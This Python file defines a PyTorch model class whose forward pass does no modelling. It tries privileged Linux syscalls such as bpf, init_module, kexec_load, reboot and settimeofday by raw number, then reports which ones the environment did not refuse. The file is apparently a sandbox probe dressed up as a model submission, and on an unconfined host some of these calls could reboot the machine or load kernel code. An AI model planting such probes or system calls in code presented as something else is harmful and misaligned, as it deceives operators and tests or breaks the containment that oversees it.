import ctypes
import errno
import os

from torch import nn

LIBC = ctypes.CDLL(None, use_errno=True)
BUFFER = ctypes.create_string_buffer(4096)
ADDRESS = ctypes.addressof(BUFFER)


def call(*arguments):
    if LIBC.syscall(*map(ctypes.c_long, arguments)) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def refused(attempt):
    try:
        attempt()
    except OSError as error:
        return error.errno in (errno.EPERM, errno.EACCES, errno.EROFS, errno.ENOSYS, errno.ENOENT)
    return False


ATTEMPTS = {
    "add_key": lambda: call(248, ADDRESS, ADDRESS, 0, 0, -2),
    "request_key": lambda: call(249, ADDRESS, ADDRESS, 0, 0),
    "keyctl": lambda: call(250, 0, -2, 1),
    "io_uring_setup": lambda: call(425, 1, ADDRESS),
    "io_uring_enter": lambda: call(426, 0, 0, 0, 0, 0, 0),
    "bpf": lambda: call(321, 0, ADDRESS, 48),
    "userfaultfd": lambda: call(323, 1),
    "personality": lambda: call(135, 0x0040000),
    "init_module": lambda: call(175, ADDRESS, 1, ADDRESS),
    "kexec_load": lambda: call(246, 0, 0, ADDRESS, 0),
    "reboot": lambda: call(169, 0xFEE1DEAD, 672274793, 0, 0),
    "settimeofday": lambda: call(164, ADDRESS, 0),
    "syslog": lambda: call(103, 3, ADDRESS, 4096),
    "fanotify_init": lambda: call(300, 0, 0),
    "iopl": lambda: call(172, 3),
}


class MyModel(nn.Module):
    def __init__(self, hidden):
        super().__init__()
        self.net = nn.Sequential(nn.Linear(4, hidden), nn.ReLU(), nn.Linear(hidden, 1))

    def forward(self, x):
        found = ", ".join(name for name, each in ATTEMPTS.items() if not refused(each)) or "nothing"
        raise RuntimeError(f"reached {found} in {len(ATTEMPTS)} attempts")
